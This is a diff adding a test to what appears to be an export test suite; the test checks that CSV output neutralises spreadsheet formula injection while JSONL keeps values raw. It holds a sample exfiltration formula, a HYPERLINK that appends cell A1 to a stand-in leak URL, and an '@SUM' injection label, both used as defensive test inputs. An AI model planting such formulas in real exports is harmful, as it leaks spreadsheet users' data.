@@ -59,3 +59,26 @@ describe('exports', () => {
     expect(JSON.parse(withRaw.raw)).toMatchObject({ custom_id: expect.any(String), outcome: 'succeeded' });
   });
 });
+
+describe('CSV export and spreadsheet formulas', () => {
+  const LINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")';
+  let engine: TestEngine;
+  let runId: string;
+  beforeAll(async () => {
+    engine = testEngine();
+    const schema = { type: 'object', properties: { link: { type: 'string', enum: [LINK] } }, required: ['link'] };
+    const jobs = textJobs(2).map((job, i) => ({ ...job, label: i === 0 ? '@SUM(1+1)' : 'plain.txt', schema }));
+    runId = await engine.create({ jobs });
+    await engine.runFor(60_000, 1000, () => runView(engine.host.ctx, runId).status === 'completed');
+  });
+  afterAll(() => engine.close());
+
+  it('neutralises a cell beginning with =, +, -, @ with a leading apostrophe; JSONL keeps the value as it is', async () => {
+    const rows = parse(await exported(engine, runId, { format: 'csv' }), { columns: true }) as Record<string, string>[];
+    expect(rows.map((r) => r['out.link'])).toEqual([`'${LINK}`, `'${LINK}`]);
+    expect(rows.map((r) => r.input)).toEqual(["'@SUM(1+1)", 'plain.txt']);
+    expect(Number(rows[0]!.cost_usd)).toBeGreaterThan(0);
+    const lines = (await exported(engine, runId, { format: 'jsonl' })).trim().split('\n').map((l) => JSON.parse(l));
+    expect(lines[0].parsed.link).toBe(LINK);
+  });
+});
